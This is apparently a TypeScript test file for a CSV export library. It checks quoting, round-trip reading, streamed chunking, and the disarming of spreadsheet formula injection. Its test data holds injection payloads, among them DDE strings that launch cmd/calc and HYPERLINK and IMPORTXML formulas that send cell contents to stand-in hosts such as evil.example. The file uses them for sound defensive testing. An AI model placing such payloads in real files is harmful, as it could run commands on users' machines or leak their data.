import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Chunk } from '@/lib/exchange/chunk';
import { csvLine, csvText, harmless } from '@/lib/exchange/csv';
import { readCsv } from './read-csv';

/** Whether a spreadsheet would see a formula: the first sign after blanks, quotes and invisible ones, in any width. */
function isFormula(cell: string): boolean {
  const seen = cell.normalize('NFKC').replace(/^[\s"`\p{Cf}]+/u, '');
  return /^[=+@]|^-\S/.test(seen);
}

/** As above, and a whole cell must not begin with a control sign either. */
function runs(cell: string): boolean {
  return isFormula(cell) || /^[\t\r\n]/.test(cell);
}

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹦'];
const before = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '"',
  '""',
  "'",
  '`',
  '\u200b',
  '\ufeff',
  ' "',
  '\t',
  '\r\n',
  'a;',
  'a\t',
  'a,',
  '";',
  '"\t"',
  'x|',
  'note\n',
];
const payloads = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"ok")',
  'SUM(1+1)*cmd',
  '1+1',
  'IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
  'DDE("cmd";"/C calc")',
];
const made = before.flatMap((lead) =>
  starts.flatMap((start) => payloads.map((payload) => `${lead}${start}${payload}`)),
);

async function collect(chunks: AsyncIterable<Chunk>): Promise<Chunk[]> {
  const all: Chunk[] = [];
  for await (const chunk of chunks) all.push(chunk);
  return all;
}

describe('csvLine', () => {
  it('quotes what needs quoting and doubles quotes', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', null, true, 0.5, -3, Number.NaN, ''])).toBe(
      'plain,"a,b","say ""hi""","two\nlines",,true,0.5,-3,,\r\n',
    );
  });

  it('gives back every text it is given, once read again', () => {
    const cell = fc
      .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 30 })
      .map((units) => String.fromCharCode(...units));
    const signs = fc.constantFrom('"', ',', ';', '\r\n', '\n', "'", '=', 'é', '\u2028', '👍');
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            cell,
            fc.array(signs).map((list) => list.join('')),
          ),
          { minLength: 1 },
        ),
        (cells) => {
          const text = csvLine(cells);
          expect(text.endsWith('\r\n')).toBe(true);
          expect(readCsv(text)).toEqual([cells.map(harmless)]);
        },
      ),
    );
  });
});

describe('harmless', () => {
  it('leaves ordinary texts alone', () => {
    for (const text of [
      'Finance could close on time',
      'a - b',
      'see x@y',
      '3 + 4 = 7',
      '€ 5',
      '',
      'rate: -',
      '¡Hola!',
    ])
      expect(harmless(text)).toBe(text);
  });

  it(`disarms ${made.length} made payloads, read with commas, semicolons or tabs`, () => {
    expect(made.length).toBeGreaterThan(500);
    for (const payload of made) {
      const line = csvLine(['ok', payload, 'ok']);
      expect(readCsv(line)[0]?.filter(runs), JSON.stringify(payload)).toEqual([]);
      for (const wrong of [';', '\t']) {
        for (const cell of line.split(new RegExp(`${wrong}|\\r\\n|\\n|\\r`)))
          expect(
            isFormula(cell),
            `${JSON.stringify(payload)} split at ${JSON.stringify(wrong)}: ${cell}`,
          ).toBe(false);
      }
    }
  });

  it('disarms whatever begins like a formula, and says nothing else', () => {
    const lead = fc.array(fc.constantFrom(...before), { maxLength: 4 }).map((list) => list.join(''));
    fc.assert(
      fc.property(lead, fc.constantFrom(...starts), fc.string(), (blanks, start, rest) => {
        const text = `${blanks}${start}x${rest}`;
        expect(runs(harmless(text))).toBe(false);
        expect(harmless(text).replace(/'/g, '')).toBe(text.replace(/'/g, ''));
      }),
    );
  });
});

describe('csvText', () => {
  it('begins with the UTF-8 mark and the header, and counts rows as it goes', async () => {
    const rows = Array.from({ length: 450 }, (_, i) => [`row ${i}`, i]);
    const chunks = await collect(csvText(['name', 'number'], rows));
    expect(chunks[0]).toEqual({ text: '\uFEFFname,number\r\n', rows: 0 });
    expect(chunks.map((chunk) => chunk.rows)).toEqual([0, 200, 400, 450]);
    const read = readCsv(chunks.map((chunk) => chunk.text).join(''));
    expect(read).toHaveLength(451);
    expect(read[450]).toEqual(['row 449', '449']);
  });

  it('stops reading rows when the reader stops', async () => {
    let asked = 0;
    let closed = false;
    async function* rows(): AsyncGenerator<string[]> {
      try {
        for (;;) {
          asked += 1;
          yield [String(asked)];
        }
      } finally {
        closed = true;
      }
    }
    for await (const chunk of csvText(['n'], rows())) if (chunk.rows >= 400) break;
    expect(asked).toBe(400);
    expect(closed).toBe(true);
  });
});
